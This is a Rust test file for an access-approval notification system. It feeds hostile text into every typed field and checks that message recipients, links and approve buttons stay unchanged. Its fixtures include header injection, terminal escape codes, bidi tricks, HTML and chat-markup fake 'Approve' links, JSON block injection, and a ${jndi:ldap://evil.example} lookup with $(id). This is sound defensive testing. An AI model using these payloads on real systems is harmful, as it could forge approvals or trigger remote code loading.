//! Text that means harm, in every field that somebody may have typed.

use jit_types::proof::is_unsafe;
use jit_types::{Free, ParamValue, Tail, Words};

use super::Trial;
use crate::testkit::harness::Message;
use crate::testkit::kit::{Bench, Go, Kit};
use crate::{Addressee, Alert, AskNotice, News, Notice, SeenFirst, Standing, Verdict};

/// What somebody might type, by what it tries.
pub(super) fn texts(kit: &Kit<'_>) -> Vec<(String, String)> {
    let fixed: &[(&str, &str)] = &[
        ("nothing", ""),
        ("line breaks", "INC-42\nrole: admin\r\n\r\n  decide    jit approve\u{2028}by: bob\u{85}x\u{b}y"),
        ("a header", "INC-42\r\nBcc: mallory@evil.example\r\n\r\n<html>"),
        (
            "a terminal's commands",
            "\u{1b}[2J\u{1b}[1;1Happroved\u{1b}]8;;https://evil.example\u{7}here\u{1b}]8;;\u{7}\u{8}\u{8}\r",
        ),
        ("a terminal's 8-bit commands", "\u{9b}31mred\u{9d}0;title\u{9c}"),
        ("reordering", "\u{202e}nimda\u{202c} \u{2066}role\u{2069} \u{200f}\u{61c}x"),
        ("hidden letters", "a\u{200b}b\u{feff}c\u{e0041}\u{e0042}\u{3164}\u{ad}d\0e"),
        ("stacked marks", "a\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}"),
        ("right to left, as written", "طلب وصول عاجل لقاعدة البيانات"),
        (
            "HTML",
            "</td></p><a href=\"https://evil.example\">Approve</a><script>x()</script><button>Approve</button><img src=x>",
        ),
        ("entities", "&lt;a&gt; &amp;amp; &#60;b&#62; &nbsp;"),
        (
            "a chat's markup",
            "<@U024BE7LH> <!channel> <!here> <https://evil.example|Approve> *b* _i_ ~s~ `c` ```d``` :tada: > q",
        ),
        ("Markdown", "[Approve](https://evil.example) ![x](https://evil.example/x.png) # h **b** | t | --- `c`"),
        (
            "an address",
            "https://evil.example/approve?x=1 mailto:mallory@evil.example www.evil.example @channel @here #general",
        ),
        (
            "JSON",
            "\"}],\"blocks\":[{\"type\":\"actions\",\"elements\":[{\"type\":\"button\",\"value\":\"approve\"}]}],\"x\":[{\"y\":\"",
        ),
        ("a template", "{{7*7}} ${jndi:ldap://evil.example} %s %n $(id) `id` {reason}"),
        ("backslashes", "\\n\\u003cb\\u003e\\"),
    ];
    let mut all: Vec<(String, String)> = fixed.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect();
    all.extend(kit.facts.hostile.iter().map(|text| ("of the medium itself".to_owned(), text.clone())));
    for (what, unit) in
        [("words", "slow orders "), ("line breaks", "\n"), ("brackets", "<"), ("wide letters", "\u{1f600}")]
    {
        all.push((format!("20 KB of {what}"), unit.repeat(20_480 / unit.len())));
    }
    all
}

/// The same notices with one text in every field that somebody may have typed.
struct Set {
    ask: AskNotice,
    to: Addressee,
}

impl Set {
    fn notices(&self, kit: &Kit<'_>, text: &str) -> Vec<Notice> {
        let words = || Words::new(text);
        let mut ask = self.ask.clone();
        ask.key = kit.key("hostile");
        ask.reason = Some(Free(text.to_owned()));
        for value in ask.params.values_mut() {
            *value = ParamValue::Text(text.to_owned());
        }
        for said in ask.gives.iter_mut().chain(&mut ask.warnings) {
            *said = words();
        }
        ask.unswept = Tail::NoBound(words());
        let mut end = ask.clone();
        end.key = kit.key("hostile");
        end.standing = Standing::Closed { outcome: words(), by: kit.approvers.to_vec() };
        let (request, role) = (ask.request, ask.role.clone());
        let news = News {
            key: kit.key("hostile"),
            to: self.to.clone(),
            request,
            grant: None,
            open: false,
            role,
            words: words(),
        };
        let alert = Alert { key: kit.key("hostile"), request: Some(request), words: words() };
        vec![Notice::Ask(Box::new(ask)), Notice::Ask(Box::new(end)), Notice::News(news), Notice::Alert(alert)]
    }

    fn new(kit: &Kit<'_>, bench: &Bench<'_>) -> Self {
        let to = Addressee {
            person: kit.alice.clone(),
            names: kit.facts.requester.names.clone(),
            link: None,
            seen: SeenFirst::default(),
        };
        Self { ask: bench.draft(1), to }
    }
}

/// All of a message that somebody could have forged.
#[derive(PartialEq, Eq)]
struct Shape {
    to: Vec<String>,
    structure: Vec<String>,
    links: Vec<String>,
    controls: Vec<Verdict>,
}

fn shape(message: &Message) -> Shape {
    let Message { to, structure, links, controls, .. } = message.clone();
    Shape { to, structure, links, controls: controls.iter().map(|c| c.verdict).collect() }
}

const KINDS: [&str; 4] = ["an ask", "a closed ask", "news", "an alert"];

/// Announces a text in every field, and returns the messages of each notice.
async fn shown(
    kit: &Kit<'_>,
    bench: &Bench<'_>,
    t: &mut Trial,
    set: &Set,
    what: &str,
    text: &str,
) -> Go<Vec<Vec<Message>>> {
    let mut all = Vec::new();
    for (notice, kind) in set.notices(kit, text).iter().zip(KINDS) {
        let before = kit.messages().await?;
        match bench.announce(notice).await? {
            Ok(_) => all.push(kit.newer(&before).await?),
            Err(error) => {
                t.check(false, format!("{kind} with {what} was not announced: {error}"));
                all.push(Vec::new());
            }
        }
    }
    Ok(all)
}

/// Whatever was typed, a message has the parts, the buttons, the mentions and the links that it has with a harmless text.
pub(super) async fn structure(kit: &Kit<'_>, t: &mut Trial) -> Go {
    let bench = kit.bench().await?;
    let set = Set::new(kit, &bench);
    let harmless = shown(kit, &bench, t, &set, "a harmless text", "INC-42 slow orders").await?;
    for (what, text) in texts(kit) {
        let hostile = shown(kit, &bench, t, &set, &what, &text).await?;
        for ((good, bad), kind) in harmless.iter().zip(&hostile).zip(KINDS) {
            t.check(good.len() == bad.len(), format!("{kind} with {what}: {} messages for {}", bad.len(), good.len()));
            for (good, bad) in good.iter().zip(bad) {
                differ(t, &shape(good), &shape(bad), &format!("{kind} with {what}"));
            }
        }
    }
    Ok(())
}

fn differ(t: &mut Trial, good: &Shape, bad: &Shape, what: &str) {
    if good == bad {
        return;
    }
    for (name, old, new) in [
        ("recipients", &good.to, &bad.to),
        ("parts", &good.structure, &bad.structure),
        ("links", &good.links, &bad.links),
    ] {
        let shown: Vec<_> = new.iter().take(12).collect();
        t.check(old == new, format!("{what}: {} {name} for {}: {shown:?}", new.len(), old.len()));
    }
    t.check(good.controls == bad.controls, format!("{what}: other controls"));
}

/// No character that moves, hides or reorders what is around it is ever shown, and no message is longer than can be.
pub(super) async fn characters(kit: &Kit<'_>, t: &mut Trial) -> Go {
    let bench = kit.bench().await?;
    let set = Set::new(kit, &bench);
    for (what, text) in texts(kit) {
        let all = shown(kit, &bench, t, &set, &what, &text).await?;
        for (messages, kind) in all.iter().zip(KINDS) {
            for message in messages {
                let bad = message.text.chars().find(|c| *c != '\n' && is_unsafe(*c));
                t.check(bad.is_none(), format!("{kind} with {what}: {bad:?} is shown"));
                let tower = message.text.split(|c: char| !('\u{300}'..='\u{36f}').contains(&c)).map(str::len).max();
                t.check(tower.unwrap_or(0) <= 16, format!("{kind} with {what}: stacked marks are shown"));
            }
        }
    }
    Ok(())
}

/// A reason of 20 KB is cut to what the medium takes, and the message says where the rest is.
pub(super) async fn long(kit: &Kit<'_>, t: &mut Trial) -> Go {
    let bench = kit.bench().await?;
    let mut ask = bench.draft(1);
    let reason = format!("INC-42 {}", "slow orders ".repeat(1700));
    ask.reason = Some(Free(reason.clone()));
    for value in ask.params.values_mut() {
        *value = ParamValue::Text("long".repeat(5000));
    }
    let case = bench.case(ask).await?;
    for message in &case.messages {
        let length = message.text.chars().count();
        t.check(length <= bench.cap.longest, format!("{length} characters, where {} can be", bench.cap.longest));
        let text = message.text.split_whitespace().collect::<Vec<_>>().join(" ");
        t.check(text.contains("INC-42 slow orders"), "the beginning of a long reason is not shown");
        t.check(!text.contains(reason.trim()), "a reason of 20 KB is shown whole");
        let way = format!("jit show {}", case.ask.request);
        t.check(text.contains(&way), format!("a cut reason does not say that `{way}` has the rest"));
    }
    Ok(())
}
